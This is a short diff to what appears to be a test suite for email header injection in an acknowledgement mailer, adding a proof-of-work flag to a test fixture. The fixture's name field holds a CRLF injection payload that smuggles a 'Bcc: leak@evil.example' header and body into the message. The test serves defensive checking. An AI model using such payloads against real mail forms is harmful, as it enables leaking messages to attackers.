@@ -322,6 +322,7 @@ describe('acknowledgements: header injection', () => {
       language: 'en',
       createdAt: '2026-11-26T10:00:00.000Z',
       source: { origin: null, partner: null, page: null, campaign: { utm_source: null, utm_medium: null, utm_campaign: null, ref: null } },
+      withoutProofOfWork: false,
       fields: { ...VALID_CAREER, name: 'Eve\r\nBcc: leak@evil.example\r\n\r\nbody', email: 'eve@example.in' },
     };
     const settings = { smtpUrl: 'smtp://unused', ...loadServerConfig({ SMTP_URL: 'smtp://x', NOTIFY_EMAIL_TO: TEAM }).personEmail! };
